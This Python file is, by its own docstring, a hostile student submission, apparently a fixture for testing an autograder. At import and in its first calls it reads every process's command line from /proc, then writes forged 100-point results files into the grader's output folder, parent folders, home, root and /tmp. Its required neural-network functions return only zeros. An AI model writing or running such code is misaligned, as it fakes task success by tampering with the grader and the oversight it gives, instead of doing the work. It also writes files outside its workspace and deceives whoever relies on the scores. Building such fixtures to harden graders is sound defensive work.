"""Course-contract hostile submission: plants fake grading results (score 100) in every
folder named on the command lines it can see (its ancestors': the grader's --out, the
submissions folder...), in its own parent folders and in /tmp, at import time and in
its first calls; returns nothing honest (zeros)."""
import json
import os

FAKE = json.dumps({"submissions": [{"path": "pwned", "status": "graded", "score": 100, "max_score": 100}],
                   "score": 100, "tests": []})
NAMES = ("results.json", "junit.xml", "results.gradescope.json", "PLANTED_BY_GRADE_PLANTER")


def _dirs():
    found = {"/tmp", "/", os.path.dirname(os.getcwd()), os.path.expanduser("~")}
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as fh:
                args = fh.read().split(b"\0")
        except OSError:
            continue
        for arg in args:
            path = os.fsdecode(arg)
            while path.startswith("/") and path != "/":
                if os.path.isdir(path):
                    found.add(path)
                path = os.path.dirname(path)
    return found


CALLS = [0]


def _plant():
    CALLS[0] += 1
    if CALLS[0] > 4:
        return 0
    planted = 0
    for d in _dirs():
        for name in NAMES:
            for target in (os.path.join(d, name), os.path.join(d, "feedback", name)):
                try:
                    with open(target, "w") as fh:
                        fh.write(FAKE)
                    planted += 1
                except OSError:
                    pass
    return planted


PLANTED_AT_IMPORT = _plant()


def forward_pass(X, wh, theta):
    _plant()
    n, m = X.shape[0], wh.shape[1]
    return {"pre_h": [[0.0] * m] * n, "h": [[0.0] * m] * n, "pre_y": [0.0] * n, "y_hat": [0.0] * n}


def compute_gradients(x, y, pre_h, h, pre_y, y_hat, theta):
    _plant()
    return {"dl_dtheta": theta * 0, "dl_dwh": [[0.0] * (len(theta) - 1)] * (len(x) + 1)}
